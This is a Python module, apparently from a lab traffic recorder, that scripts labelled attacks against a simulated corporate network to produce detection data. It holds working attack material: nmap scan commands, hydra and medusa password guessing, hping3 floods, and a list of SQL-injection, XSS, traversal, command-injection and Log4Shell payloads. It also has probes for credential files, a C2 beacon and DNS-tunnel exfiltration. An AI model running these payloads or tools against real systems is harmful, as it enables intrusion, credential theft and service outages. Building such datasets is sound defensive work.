"""What the attackers do: each attack a real tool, bounded in count and in time, from an address of its own."""

import base64
import random
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from recorder.network import Host
from recorder.people import curl, run
from recorder.servers import C2_NAME, CHATTER, TUNNEL_NAME

WEB = "http://www.corp.example"
NAMES = ("root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "ops", "pi", "user", "guest", "deploy")
PASSWORDS = (
    "123456",
    "password",
    "admin",
    "letmein",
    "qwerty",
    "root",
    "toor",
    "welcome1",
    "changeme",
    "abc123",
    "dragon",
    "p@ssw0rd",
)

INJECTIONS = (
    "/search?q=1%27%20OR%20%271%27=%271",
    "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/search?q=1;%20DROP%20TABLE%20items;--",
    "/search?q=1%27%20AND%20SLEEP(5)--%20-",
    "/api/items?id=-1%20union%20all%20select%201,2,@@version--",
    "/api/items?id=1%20AND%20extractvalue(1,concat(0x7e,version()))",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/search?q=%3Csvg/onload=alert(1)%3E",
    "/static/../../../../etc/passwd",
    "/download?file=../../../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
    "/download?file=php://filter/convert.base64-encode/resource=index.php",
    "/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd",
    "/api/ping?host=127.0.0.1%7Cid",
    "/search?q=$%7Bjndi:ldap://203.0.113.99/a%7D",
)
PROBES = (
    "/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/", "/admin.php", "/config.php.bak",
    "/server-status", "/backup.zip", "/db.sql", "/actuator/env", "/solr/admin/", "/cgi-bin/luci", "/HNAP1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/owa/auth/logon.aspx",
    "/.aws/credentials", "/console/", "/shell.php",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: who, on whom, of which kind, by which tool, and when in the mixed part it begins (a share of it)."""

    host: str
    address: str
    kind: str
    tool: str
    what: str
    victims: tuple[str, ...]
    begins: float
    """0..1 of the mixed part."""
    work: Callable[[Host, Path], None]
    compromised: bool = False
    """An honest host that begins to misbehave, rather than a stranger."""


def _words_file(folder: Path, name: str, words: tuple[str, ...]) -> str:
    file = folder / name
    file.write_text("\n".join(words) + "\n")
    return str(file)


def syn_scan(host: Host, folder: Path) -> None:
    run(
        host,
        "nmap",
        "-n",
        "-Pn",
        "-sS",
        "--top-ports",
        "600",
        "--max-retries",
        "1",
        "10.20.10.10",
        "10.20.10.20",
        seconds=60,
    )


def connect_scan(host: Host, folder: Path) -> None:
    run(
        host,
        "nmap",
        "-n",
        "-Pn",
        "-sT",
        "-sV",
        "--version-light",
        "-p",
        "1-120,443,1883,3306,5201,8000,8080",
        "10.20.10.10",
        seconds=60,
    )


def slow_scan(host: Host, folder: Path) -> None:
    run(
        host,
        "nmap",
        "-n",
        "-Pn",
        "-sT",
        "--max-parallelism",
        "1",
        "--scan-delay",
        "1500ms",
        "--top-ports",
        "70",
        "10.20.10.20",
        seconds=130,
    )


def udp_scan(host: Host, folder: Path) -> None:
    run(
        host,
        "nmap",
        "-n",
        "-Pn",
        "-sU",
        "--top-ports",
        "40",
        "--max-retries",
        "1",
        "--host-timeout",
        "50s",
        "10.20.10.20",
        seconds=60,
    )


def sweep(host: Host, folder: Path) -> None:
    run(host, "nmap", "-n", "-sn", "-PE", "--max-retries", "1", "10.20.10.1-120", seconds=60)


def office_scan(host: Host, folder: Path) -> None:
    run(host, "nmap", "-n", "-sn", "10.20.0.0/25", seconds=60)
    run(
        host,
        "nmap",
        "-n",
        "-Pn",
        "-sS",
        "-p",
        "22,139,445,3389,5900",
        "10.20.0.1-48",
        "10.20.10.1-48",
        "--max-retries",
        "1",
        seconds=60,
    )


def ssh_hydra(host: Host, folder: Path) -> None:
    words = [
        "-t",
        "4",
        "-L",
        _words_file(folder, "names", NAMES[:4]),
        "-P",
        _words_file(folder, "passwords", PASSWORDS),
    ]
    run(host, "hydra", "-I", *words, "ssh://10.20.10.10", seconds=60)


def ssh_spray(host: Host, folder: Path) -> None:
    words = ["-t", "1", "-U", _words_file(folder, "sprayed", NAMES), "-p", "Spring2026!"]
    run(host, "medusa", "-h", "10.20.10.20", "-M", "ssh", *words, seconds=90)


def http_hydra(host: Host, folder: Path) -> None:
    words = [
        "-t",
        "4",
        "-L",
        _words_file(folder, "people", ("ada", "admin", "mia")),
        "-P",
        _words_file(folder, "tried", PASSWORDS),
    ]
    run(
        host,
        "hydra",
        "-I",
        *words,
        "www.corp.example",
        "http-post-form",
        "/login:user=^USER^&pass=^PASS^:F=Wrong",
        seconds=60,
    )


def basic_hydra(host: Host, folder: Path) -> None:
    words = ["-t", "2", "-l", "ops", "-P", _words_file(folder, "office", PASSWORDS * 4)]
    run(host, "hydra", "-I", *words, "www.corp.example", "http-get", "/admin/", seconds=60)


def inject(host: Host, folder: Path) -> None:
    for path in INJECTIONS:
        curl(
            host, "--path-as-is", "-A", "Mozilla/5.0 (Windows NT 6.1; rv:40.0) Gecko/20100101 Firefox/40.1", WEB + path
        )
        run(host, "sleep", "0.7")


def probe(host: Host, folder: Path) -> None:
    agent = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"
    for path in PROBES:
        curl(host, "-A", agent, WEB + path)


def enumerate_site(host: Host, folder: Path) -> None:
    run(
        host,
        "nmap",
        "-n",
        "-Pn",
        "-p",
        "80",
        "--script",
        "http-enum",
        "--script-args",
        "http-enum.category=attacks",
        "10.20.10.10",
        seconds=60,
    )


def beacon(host: Host, folder: Path) -> None:
    run(host, sys.executable, CHATTER, "beacon", f"http://{C2_NAME}/gate", "40", "3.5", "0.1", seconds=170)


def tunnel(host: Host, folder: Path) -> None:
    rng = random.Random(host.address)
    for number in range(150):
        label = base64.b32encode(rng.randbytes(30)).decode().lower().rstrip("=")
        run(host, "dig", "+tries=1", "+time=1", rng.choice(("TXT", "A", "NULL")), f"{label}.{number:x}.{TUNNEL_NAME}")
        run(host, "sleep", f"{rng.uniform(0.1, 0.5):.2f}")


def syn_flood(host: Host, folder: Path) -> None:
    run(host, "hping3", "-q", "-S", "-p", "80", "-i", "u1500", "-c", "2500", "10.20.10.10", seconds=30)


def udp_flood(host: Host, folder: Path) -> None:
    run(host, "hping3", "-q", "-2", "-p", "9999", "-d", "64", "-i", "u1500", "-c", "1500", "10.20.10.20", seconds=30)


WEB1, FILES = "10.20.10.10", "10.20.10.20"
ATTACKS = (
    Attack(
        "a-syn",
        "203.0.113.31",
        "port_scan",
        "nmap -sS",
        "SYN scan of 600 ports on two servers",
        (WEB1, FILES),
        0.02,
        syn_scan,
    ),
    Attack(
        "a-connect", "203.0.113.32", "port_scan", "nmap -sT -sV", "connect and version scan", (WEB1,), 0.1, connect_scan
    ),
    Attack(
        "a-slow",
        "203.0.113.33",
        "port_scan",
        "nmap -sT --scan-delay 1500ms",
        "slow scan, a port in 1.5 s",
        (FILES,),
        0.05,
        slow_scan,
    ),
    Attack("a-udp", "203.0.113.34", "port_scan", "nmap -sU", "UDP scan", (FILES,), 0.2, udp_scan),
    Attack(
        "a-sweep",
        "203.0.113.35",
        "host_sweep",
        "nmap -sn -PE",
        "ping sweep of 120 addresses",
        (WEB1, FILES),
        0.3,
        sweep,
    ),
    Attack(
        "a-ssh", "203.0.113.41", "brute_force", "hydra ssh", "48 guesses at ssh, 4 at a time", (WEB1,), 0.08, ssh_hydra
    ),
    Attack(
        "a-spray",
        "203.0.113.42",
        "brute_force",
        "medusa ssh",
        "one password over 12 accounts",
        (FILES,),
        0.35,
        ssh_spray,
    ),
    Attack(
        "a-login",
        "203.0.113.43",
        "brute_force",
        "hydra http-post-form",
        "guesses at the web log-in",
        (WEB1,),
        0.4,
        http_hydra,
    ),
    Attack(
        "a-basic",
        "203.0.113.44",
        "brute_force",
        "hydra http-get",
        "guesses at the back office",
        (WEB1,),
        0.55,
        basic_hydra,
    ),
    Attack(
        "a-inject",
        "203.0.113.51",
        "web_attack",
        "curl",
        "SQL injection, XSS, traversal, command injection",
        (WEB1,),
        0.25,
        inject,
    ),
    Attack(
        "a-probe",
        "203.0.113.52",
        "web_attack",
        "curl",
        "a scanner looking for 20 well-known holes",
        (WEB1,),
        0.45,
        probe,
    ),
    Attack(
        "a-enum",
        "203.0.113.53",
        "web_attack",
        "nmap http-enum",
        "many paths tried by nmap's script",
        (WEB1,),
        0.6,
        enumerate_site,
    ),
    Attack(
        "a-syn-flood",
        "203.0.113.61",
        "flood",
        "hping3 -S",
        "2,500 SYN packets at about 600 a second",
        (WEB1,),
        0.7,
        syn_flood,
    ),
    Attack(
        "a-udp-flood",
        "203.0.113.62",
        "flood",
        "hping3 -2",
        "1,500 UDP packets at about 600 a second",
        (FILES,),
        0.85,
        udp_flood,
    ),
    Attack(
        "cleo-pc",
        "10.20.0.23",
        "beacon",
        "chatter.py beacon",
        "asks its master for orders every 3.5 s, jitter 10 %",
        (),
        0.03,
        beacon,
        True,
    ),
    Attack(
        "dan-pc",
        "10.20.0.24",
        "dns_tunnel",
        "dig",
        "carries data out in 150 names of one domain",
        (),
        0.3,
        tunnel,
        True,
    ),
    Attack(
        "guest-pc",
        "10.20.0.29",
        "lateral_scan",
        "nmap -sn, -sS",
        "looks through the office and the servers",
        (),
        0.5,
        office_scan,
        True,
    ),
)
